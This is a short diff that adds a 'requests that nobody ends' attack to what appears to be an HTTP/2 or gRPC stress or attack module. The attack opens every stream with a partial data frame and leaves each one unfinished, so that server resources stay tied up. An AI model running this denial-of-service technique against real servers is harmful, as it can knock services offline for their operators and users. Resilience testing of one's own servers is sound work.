@@ -183,6 +183,15 @@ def goaway_flood():
     yield from again(frame(GOAWAY, 0, 0, bytes(8)))
 
 
+# ---- requests that nobody ends ----
+
+@attack
+def requests_that_do_not_end():
+    """64 KiB of a megabyte on each of all streams."""
+    encoded, part = block("Echo"), (2**20).to_bytes(5, "big") + bytes(2**16 - 5)
+    yield from on_streams(lambda stream: headers(stream, encoded) + data(stream, part, flags=0))
+
+
 # ---- answers that nobody takes ----
 
 @attack
